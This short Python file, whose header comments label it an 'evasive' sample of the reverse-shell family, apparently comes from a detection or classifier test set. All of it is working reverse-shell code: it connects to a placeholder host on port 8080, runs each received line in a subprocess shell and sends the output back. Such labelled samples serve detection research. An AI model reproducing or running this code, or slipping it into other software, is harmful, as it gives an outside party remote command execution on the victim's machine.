# family: reverse-shell
# evasive: asyncio connection whose lines run in a subprocess shell
import asyncio


async def main():
    reader, writer = await asyncio.open_connection("as.example.invalid", 8080)
    while True:
        line = await reader.readline()
        if not line:
            break
        proc = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE,
                                                     stderr=asyncio.subprocess.STDOUT)
        out, _ = await proc.communicate()
        writer.write(out)
        await writer.drain()


asyncio.run(main())
